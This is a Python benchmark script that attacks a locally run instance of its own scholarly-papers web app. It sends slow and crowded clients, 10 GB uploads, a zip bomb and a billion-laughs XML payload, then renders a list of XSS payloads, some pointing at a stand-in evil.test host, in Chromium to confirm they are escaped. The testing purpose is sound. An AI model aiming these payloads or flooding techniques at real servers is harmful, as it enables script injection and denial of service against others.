"""A server under attack: slow clients, a crowd, uploads without end, hostile text in a browser.

    python -m tests.benchmarks.attack [crowd] [uploads] [scripts] [--papers 2000] [--strings 150]

- `crowd`: 200 clients that send or read a byte a second, and 300 requests at once; how long others
  wait meanwhile, beside how long they waited before.
- `uploads`: 10 GB of made bytes, a zip bomb and nested XML entities; how soon they are refused, and
  which files are left.
- `scripts`: hostile strings in every field of papers, and every page of them in Chromium: dialogs,
  reports of the content security policy, and requests to other places.

Each attack has a server and a library of its own.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import select
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from typing import Any

from fastapi.routing import iter_route_contexts
from playwright.sync_api import Error, sync_playwright

from app.main import create_app
from app.settings import Settings
from tests.benchmarks.servers import Server, oeuvre
from tests.browser.conftest import FLAGS

SLOW, AT_ONCE = 200, 300
OTHERS = 100
"""Requests of somebody who means well, one after the other."""
WAIT_S = 30.0
GB = 10
CHUNK = b"x" * (1 << 20)
ASKED = ("/papers?q=tides", "/api/v1/papers?q=tides", "/authors", "/health", "/papers/1")

PAYLOADS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", '"><svg onload={0}>', "'-{0}-'",
    "</title><script>{0}</script>", "</script><script>{0}</script>", "javascript:{0}",
    "<iframe src=javascript:{0}></iframe>", "<a href=javascript:{0}>x</a>", "<math><mtext>{0}",
    "${{{0}}}", "{{{{{0}}}}}", "<details open ontoggle={0}>", "<base href=//evil.test/>",
    "<style>@import '//evil.test/x'</style>", "<link rel=stylesheet href=//evil.test/x>",
    '" hx-get="//evil.test/x" hx-trigger="load', "<div hx-on:load={0} hx-trigger=load>",
    "<form action=//evil.test/x><button>x</button></form>", "<img src=//evil.test/x>",
    "<meta http-equiv=refresh content=0>", "<!--><img src=x onerror={0}>-->",
    "\\href{{javascript:{0}}}{{x}}", "$\\text{{<img src=x onerror={0}>}}$",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "&lt;img src=x onerror={0}&gt;",
    "<mark onclick={0}>x</mark>", "</textarea><img src=x onerror={0}>",
    "<object data=//evil.test/x>", "<video><source onerror={0}></video>",
)  # fmt: skip
CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)", "prompt(document.domain)", "print()")
"""Each payload with each call: 150 strings."""
TOGETHER = 10
"""Strings of one paper, so that 150 of them are on few pages."""
MARK = re.compile(r"mark\d{3}")


def main() -> None:
    """Attack, and print what came of it."""
    attacks: dict[str, Callable[[argparse.Namespace], None]] = {
        "crowd": crowd, "uploads": uploads, "scripts": scripts,
    }  # fmt: skip
    parser = argparse.ArgumentParser()
    parser.add_argument("attacks", nargs="*", default=[*attacks])
    parser.add_argument("--papers", type=int, default=2000)
    parser.add_argument("--strings", type=int, default=len(PAYLOADS) * len(CALLS))
    given = parser.parse_args()
    for name in given.attacks:
        attacks[name](given)


def crowd(given: argparse.Namespace) -> None:
    """Let others wait among slow clients and many at once."""
    papers = ({"title": f"Tides {n}", "authors": [f"Ada M{n}"]} for n in range(given.papers))
    with library_of(papers) as library, oeuvre(library, OEUVRE_SEMANTIC="0") as server:
        _print_waits("before", [_timed(server, n) for n in range(OTHERS)])
        stop = threading.Event()
        slow = [threading.Thread(target=_be_slow, args=(server, n, stop)) for n in range(SLOW)]
        took: list[tuple[float, int]] = []
        many = [
            threading.Thread(target=lambda n=n: took.append(_timed(server, n)))
            for n in range(AT_ONCE)
        ]
        for thread in slow:
            thread.start()
        time.sleep(1.0)
        _print_waits(f"beside {SLOW} slow ones", [_timed(server, n) for n in range(OTHERS)])
        for thread in many:
            thread.start()
        for thread in many:
            thread.join()
        _print_waits(f"{AT_ONCE} at once", took)
        stop.set()
        for thread in slow:
            thread.join()
        _print_waits("after", [_timed(server, n) for n in range(OTHERS)])


def _be_slow(server: Server, number: int, stop: threading.Event) -> None:
    """Send a head a byte a second, or ask for much and read a byte a second."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", server.port), WAIT_S) as line:
        head = b"GET /papers.csl.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        if number % 2:
            line.sendall(head)
        sent = 0
        while not stop.wait(1.0):
            if number % 2:
                line.recv(1)
            else:
                line.sendall(head[sent : sent + 1])
                sent = min(sent + 1, len(head) - 3)


def _timed(server: Server, number: int) -> tuple[float, int]:
    """Ask once; return the seconds and the status, 0 for no answer."""
    begun = time.perf_counter()
    status = 0
    with suppress(OSError, HTTPException):
        line = HTTPConnection("127.0.0.1", server.port, timeout=WAIT_S)
        line.request("GET", ASKED[number % len(ASKED)])
        answer = line.getresponse()
        answer.read()
        status = answer.status
        line.close()
    return time.perf_counter() - begun, status


def _print_waits(what: str, took: list[tuple[float, int]]) -> None:
    seconds = sorted(one for one, _ in took)
    statuses = sorted({status for _, status in took})
    p99 = seconds[min(int(len(seconds) * 0.99), len(seconds) - 1)]
    print(
        f"{what:24} median {statistics.median(seconds) * 1000:6.0f} ms, p99 {p99 * 1000:6.0f} ms,"
        f" longest {seconds[-1] * 1000:6.0f} ms, statuses {statuses}"
    )


def uploads(_: argparse.Namespace) -> None:
    """Send what is too much."""
    with (
        library_of([{"title": "Tides"}]) as library,
        oeuvre(library, OEUVRE_SEMANTIC="0") as server,
    ):
        before = _files_beside(library)
        told = str(GB << 30)
        _print_refusal(server, f"{GB} GB, announced", iter([CHUNK]), {"Content-Length": told})
        endless = (CHUNK for _ in range(GB << 10))
        _print_refusal(server, f"{GB} GB, in chunks", endless, {"Transfer-Encoding": "chunked"})
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{number}.jsonl", b"{" + b" " * (128 << 20))
        _print_refusal(server, "zip of 1 GiB", iter([packed.getvalue()]), {})
        named = [(f"&a{n - 1};" * 10, n) for n in range(1, 12)]
        entities = "".join(f'<!ENTITY a{n} "{value}">' for value, n in named)
        laughs = (
            f'<!DOCTYPE d [<!ENTITY a0 "ha">{entities}]><PubmedArticleSet>&a11;</PubmedArticleSet>'
        )
        _print_refusal(server, "a billion laughs", iter([laughs.encode()]), {})
        left = sorted(_files_beside(library) - before)
        print(f"files left: {left or 'none'}")


def _print_refusal(
    server: Server, what: str, parts: Iterator[bytes], headers: dict[str, str]
) -> None:
    begun, sent = time.perf_counter(), 0
    line = HTTPConnection("127.0.0.1", server.port, timeout=120)
    chunked = "Transfer-Encoding" in headers
    said = "no answer"
    with suppress(OSError, HTTPException):
        body = [*parts] if not headers else parts
        line.putrequest("POST", "/api/v1/imports?dry_run=yes")
        given = headers or {"Content-Length": str(sum(map(len, body)))}
        for name, value in given.items():
            line.putheader(name, value)
        line.endheaders()
        with suppress(OSError):
            for part in body:
                line.send(b"%x\r\n%s\r\n" % (len(part), part) if chunked else part)
                sent += len(part)
                if select.select([line.sock], [], [], 0)[0]:  # there is an answer already
                    break
        answer = line.getresponse()
        problem = json.loads(answer.read())
        said = f"{answer.status} {problem.get('detail') or problem.get('message')}"
    line.close()
    took = time.perf_counter() - begun
    print(f"{what:20} {took:6.1f} s, {sent / 2**20:8,.0f} MiB sent: {said[:150]}", flush=True)


def _files_beside(library: Path) -> set[str]:
    made = (path for path in library.parent.rglob("*") if path.is_file())
    return {str(path.relative_to(library.parent)) for path in made if path.stat().st_size > 1 << 16}


def scripts(given: argparse.Namespace) -> None:
    """Show hostile strings on every page, in Chromium."""
    made = [one.format(call) for one in PAYLOADS for call in CALLS][: given.strings]
    strings = [f"{text} {_mark(number)}" for number, text in enumerate(made)]
    records = [_record(strings[at : at + TOGETHER]) for at in range(0, len(strings), TOGETHER)]
    shown: set[str] = set()
    seen: dict[str, set[str]] = {"dialogs": set(), "reports": set(), "stray requests": set()}
    with (
        library_of(records) as library,
        oeuvre(library, OEUVRE_SEMANTIC="0") as server,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=[*FLAGS])
        page = browser.new_page()
        page.on("dialog", lambda dialog: (seen["dialogs"].add(page.url), dialog.dismiss()))
        page.on(
            "console",
            lambda said: "Content Security" in said.text and seen["reports"].add(page.url),
        )
        page.on(
            "request",
            lambda asked: (
                asked.url.startswith((server.address, "data:"))
                or seen["stray requests"].add(f"{page.url} -> {asked.url}")
            ),
        )
        paths = [*_pages(library, len(records))]
        for path in paths:
            with suppress(Error):  # fragments without content, and files, are no pages
                page.goto(server.address + path)
                shown.update(re.findall(MARK, page.content()))
        browser.close()
    missed = [text for number, text in enumerate(strings) if _mark(number) not in shown]
    print(f"{len(strings)} strings, {len(paths)} pages in Chromium; {len(shown)} shown as text")
    print(f"shown nowhere: {missed[:5]}" if missed else "each was shown")
    for what, places in seen.items():
        print(f"{what}: {len(places)} {sorted(places)[:5]}")


def _mark(number: int) -> str:
    """Name a string: what a page shows of it."""
    return f"mark{number:03}"


def _record(texts: list[str]) -> dict[str, Any]:
    """Make a paper that has texts in every field: each in those that hold many, all in the others.

    A field that is not escaped would run its first text; each paper begins with another.
    """
    text = " ".join(texts)
    return {
        "title": text, "abstract": f"Of tides. {text} And tides.", "venue": text,
        "authors": [{"name": f"{one} Torr", "affiliations": [one]} for one in texts],
        "keywords": texts, "tags": texts, "categories": [one[:30] for one in texts],
        "publisher": text, "volume": texts[0], "issue": texts[0], "pages": texts[0],
        "url": f"https://example.org/?{texts[0]}", "code_url": f"https://example.org/{texts[-1]}",
        "date": f"{2000 + len(text) % 20}", "language": texts[0][:20], "extra": text,
    }  # fmt: skip


def _pages(library: Path, papers: int) -> Iterator[str]:
    """Give every page that the application has: lists with all papers, one of each for items."""
    app = create_app(Settings.model_validate({"database_url": f"sqlite:///{library}"}))
    for route in iter_route_contexts(app.routes):
        path = str(route.path)
        if "GET" not in (route.methods or ()) or path.startswith(("/api/v1", "/api/openapi")):
            continue
        if "." in path and not path.endswith(".svg"):
            continue
        if "{" not in path:
            yield from (
                path,
                f"{path}?q=tides&per_page=200",
                f"{path}?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
            )
        else:
            several = papers if path in ("/papers/{name}", "/authors/{name}") else 1
            for number in range(1, several + 1):
                yield re.sub(r"\{[^}]*\}", str(number), path)


@contextmanager
def library_of(records: Iterable[dict[str, Any]]) -> Iterator[Path]:
    """Make a library of records, in a folder of its own."""
    with tempfile.TemporaryDirectory() as folder:
        made = Path(folder) / "made.jsonl"
        made.write_text("\n".join(json.dumps(record) for record in records), "utf-8")
        library = Path(folder) / "library.db"
        command = [sys.executable, "-m", "app", "import", str(made), "--no-embed"]
        env = {**os.environ, "OEUVRE_DATABASE_URL": f"sqlite:///{library}"}
        subprocess.run(command, env=env, capture_output=True, check=False)  # with doubts, too
        made.unlink()
        yield library


if __name__ == "__main__":
    main()
